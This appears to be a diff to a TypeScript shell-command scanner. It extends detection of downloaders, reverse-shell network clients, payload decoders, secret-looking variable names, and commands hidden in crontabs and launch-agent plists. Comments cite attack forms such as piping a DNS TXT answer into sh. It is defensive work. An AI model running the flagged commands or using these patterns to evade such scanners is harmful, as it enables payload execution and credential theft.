@@ -47,6 +47,15 @@ const CODE_OPTIONS: Record<string, { short: string; long: string[] }> = {
   jvm: { short: 'e', long: [] },
 };
 
+/** Letters that take a glued value, ending a cluster (`-rsocket` is -r socket, not -e). */
+const VALUE_LETTERS: Record<string, string> = {
+  perl: 'IMmdDxl0iFC',
+  ruby: 'rIECFKTWx0il',
+  python: 'WXQm',
+  node: 'r',
+  php: 'cdfzt',
+};
+
 export function codeFamily(name: string): string | undefined {
   return isShell(name) ? 'shell' : interpreterFamily(name);
 }
@@ -68,9 +77,23 @@ export function inlineCodeArgs(cmd: SimpleCommand): number[] {
       else if (i + 1 < cmd.args.length) out.push(++i);
       continue;
     }
-    if (/^-[A-Za-z]+$/.test(a) && spec.short && [...a.slice(1)].some((ch) => spec.short.includes(ch))) {
+    if (/^-[A-Za-z]+/.test(a) && !a.startsWith('--') && spec.short) {
+      // A cluster up to the first letter that takes a glued value (`ruby -rsocket`, `perl -Mfeature=say`).
+      const stop = VALUE_LETTERS[family] ?? '';
+      let code = false;
+      for (const ch of a.slice(1)) {
+        if (spec.short.includes(ch)) {
+          code = true;
+          break;
+        }
+        if (stop.includes(ch)) break;
+      }
       // Perl's `-e` may be followed by more clustered flags (`-ne`): the code is the next word.
-      if (i + 1 < cmd.args.length) out.push(++i);
+      if (code) {
+        if (i + 1 < cmd.args.length) out.push(++i);
+        continue;
+      }
+      if (/^-[A-Za-z]$/.test(a) && stop.includes(a[1]!) && !/^-[mM]$/.test(a)) i++;
       continue;
     }
     // The first operand is a script path: options after it belong to the script.
@@ -86,6 +109,8 @@ const VALUE_OPTIONS = new Set(['-o', '-O', '--rcfile', '--init-file', '-W', '-X'
 export function readsProgramFromStdin(cmd: SimpleCommand): boolean {
   // A program only known at run time may be a shell.
   if (cmd.nameDynamic) return true;
+  // `at` and `batch` run the shell code they read, later.
+  if (cmd.name === 'at' || cmd.name === 'batch') return !cmd.args.some((a) => /^-[A-Za-z]*[flrdc]/.test(a.value) || a.value === '-f');
   if (cmd.name === 'source' || cmd.name === '.') {
     const target = cmd.args[0]?.value;
     return target === undefined || isStdinPath(target);
@@ -113,14 +138,88 @@ const isStdinPath = (p: string): boolean => /^\/dev\/(stdin|fd\/0)$|^\/proc\/sel
 
 const DOWNLOADERS = new Set([
   'curl', 'wget', 'wget2', 'fetch', 'aria2c', 'http', 'https', 'httpie', 'xh', 'xhs', 'lwp-request', 'lwp-download',
-  'get', 'nc', 'ncat', 'netcat', 'socat', 'ftp', 'tftp', 'telnet', 'axel', 'curlie',
+  'get', 'nc', 'ncat', 'netcat', 'socat', 'ftp', 'tftp', 'telnet', 'axel', 'curlie', 'lynx', 'w3m', 'links', 'elinks',
+  // DNS answers carry payloads too (`dig +short TXT x.example | sh`), and so does another machine's output.
+  'dig', 'host', 'nslookup', 'drill', 'kdig', 'whois', 'ssh', 'gsutil',
 ]);
 
 export function isDownloader(cmd: SimpleCommand): boolean {
   if (DOWNLOADERS.has(cmd.name)) return true;
-  if (cmd.name === 'openssl') return cmd.args[0]?.value === 's_client';
-  if (cmd.name === 'git') return false;
+  const a = cmd.args.map((w) => w.value);
+  if (cmd.name === 'openssl') return a[0] === 's_client';
+  // `gh api …`, `gh gist view …`, `gh release download -O - …`, `aws s3 cp s3://x -`.
+  if (cmd.name === 'gh') return ['api', 'gist', 'release', 'run'].includes(a.find((v) => !v.startsWith('-')) ?? '');
+  if (cmd.name === 'aws') return a.includes('s3') && (a.includes('cp') || a.includes('presign'));
   return false;
+}
+
+/** Network clients a reverse shell wires a shell to. */
+export function isNetworkClient(cmd: SimpleCommand): boolean {
+  return ['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl', 'ssh', 'cryptcat', 'pwncat', 'sbd'].includes(cmd.name);
+}
+
+/** Variable names that look like they hold secrets (`GITHUB_TOKEN`, `ANTHROPIC_API_KEY`, `DATABASE_URL`). */
+export function looksSecretName(name: string): boolean {
+  if (name === 'PWD' || name === 'OLDPWD') return false;
+  return (
+    /(^|_)(API_?KEYS?|KEYS?|TOKENS?|SECRETS?|PASSWORDS?|PASSWD|PASSPHRASE|PASS|PWD|PW|CREDENTIALS?|CREDS?|AUTH|COOKIES?|SESSION|PRIVATE|SIGNING|BEARER|DSN)(_|$)/i.test(name) ||
+    /^(ANTHROPIC|OPENAI|CLAUDE|GEMINI|MISTRAL|GROQ|HF|HUGGING_?FACE)_/i.test(name) ||
+    (/^REIN_/i.test(name) && !/^REIN_(HOME|SKIP_CLI_BUILD|LOG_LEVEL|DEBUG)$/i.test(name)) ||
+    /(^|_)(DATABASE|DB|REDIS|MONGO(DB)?|POSTGRES(QL)?|PG|MYSQL|AMQP|RABBITMQ|BROKER|SENTRY)_(URL|URI|DSN)$/i.test(name) ||
+    /_CONNECTION_STRING$/i.test(name) ||
+    /^(KUBECONFIG|NETRC|HISTFILE|SSH_AUTH_SOCK|GNUPGHOME|PASSWORD_STORE_DIR)$/i.test(name)
+  );
+}
+
+const AWKS = new Set(['awk', 'gawk', 'mawk', 'nawk', 'goawk', 'bwk', 'onetrue-awk']);
+export const isAwk = (name: string): boolean => AWKS.has(name);
+
+/**
+ * Where an awk command's program is: the first operand after its options (`-F fs`, `-v a=b`), or none when
+ * it comes from a file (`-f prog.awk`, gawk's `-i`/`-l`/`--exec`). `options` lists the options seen.
+ */
+export function awkProgram(args: readonly string[]): { index?: number; fromFile: boolean; options: string[] } {
+  const options: string[] = [];
+  let fromFile = false;
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i]!;
+    if (a === '--') return { ...(i + 1 < args.length && !fromFile ? { index: i + 1 } : {}), fromFile, options };
+    if (!a.startsWith('-') || a === '-') return { ...(fromFile ? {} : { index: i }), fromFile, options };
+    options.push(a);
+    const m = /^(-[A-Za-z]|--[a-z-]+)(=?)(.*)$/.exec(a)!;
+    const opt = m?.[1] ?? a;
+    if (/^-[fiE]$|^--(file|include|exec|load|source)$|^-l$/.test(opt)) fromFile = true;
+    // Options with a value: glued (`-F:`, `-vx=1`) or the next word.
+    if (/^-[FvfiEle]$|^--(field-separator|assign|file|include|exec|load|source)$/.test(opt) && !m?.[3] && !m?.[2]) i++;
+  }
+  return { fromFile, options };
+}
+
+/** The commands of a crontab's entries (schedule fields, and a system crontab's user field, dropped). */
+export function cronCommands(text: string, system = false): string[] {
+  const out: string[] = [];
+  for (const raw of text.split('\n')) {
+    const line = raw.trim();
+    if (!line || line.startsWith('#') || /^[A-Za-z_][A-Za-z0-9_]*\s*=/.test(line)) continue;
+    const fields = line.split(/\s+/);
+    const skip = line.startsWith('@') ? 1 : 5;
+    const rest = fields.slice(skip);
+    // `%` is a newline in a crontab command (`\%` a literal percent sign).
+    const fix = (s: string) => s.replace(/(^|[^\\])%/g, '$1\n').replace(/\\%/g, '%');
+    out.push(fix(rest.join(' ')));
+    // Read without the `%` rule too: a payload that the rule would cut short still counts.
+    if (rest.join(' ').includes('%')) out.push(rest.join(' '));
+    if (system && rest.length > 1) out.push(fix(rest.slice(1).join(' ')));
+    if (out.length >= 16) break;
+  }
+  return out.filter((c) => c.trim());
+}
+
+/** The strings of a property list (a launch agent's ProgramArguments), each alone and all joined. */
+export function plistStrings(text: string): string[] {
+  const unescape = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
+  const strings = [...text.matchAll(/<string>([\s\S]*?)<\/string>/g)].map((m) => unescape(m[1]!)).slice(0, 32);
+  return [...strings.filter((s) => /\s/.test(s)), strings.join(' ')].filter((s) => s.trim());
 }
 
 /** Programs that turn an encoded or compressed blob back into text (used to hide a payload). */
@@ -150,7 +249,19 @@ export function isDecoder(cmd: SimpleCommand): boolean {
     case 'zstdcat':
     case 'lzcat':
     case 'rev':
+    case 'rot13':
+    case 'caesar':
       return true;
+    // Character maps and re-encodings turn an innocent-looking string into a command (rot13).
+    case 'tr':
+      return args.filter((a) => !a.startsWith('-')).length >= 2 && !has('-d');
+    case 'iconv':
+      return true;
+    case 'gpg':
+    case 'gpg2':
+      return has('-d') || args.includes('--decrypt');
+    case 'unzip':
+      return has('-p') || has('-c');
     case 'gzip':
     case 'bzip2':
     case 'xz':
@@ -208,6 +319,11 @@ export function downloadTargets(cmd: SimpleCommand): string[] {
       if (url) out.push(url.replace(/[?#].*$/, '').split('/').pop() ?? '');
     } else if (/^-[A-Za-z]*o$/.test(v) && cmd.name === 'curl' && a[i + 1] !== undefined) {
       out.push(a[i + 1]!);
+    } else if (cmd.name === 'curl' && /^-[A-Za-z]*o./.test(v)) {
+      // Glued: `-o/tmp/x`, `-so/tmp/x`.
+      out.push(v.slice(v.indexOf('o') + 1));
+    } else if (cmd.name.startsWith('wget') && /^-[A-Za-z]*O./.test(v)) {
+      out.push(v.slice(v.indexOf('O') + 1));
     }
   }
   if (cmd.name.startsWith('wget') && out.length === 0) {
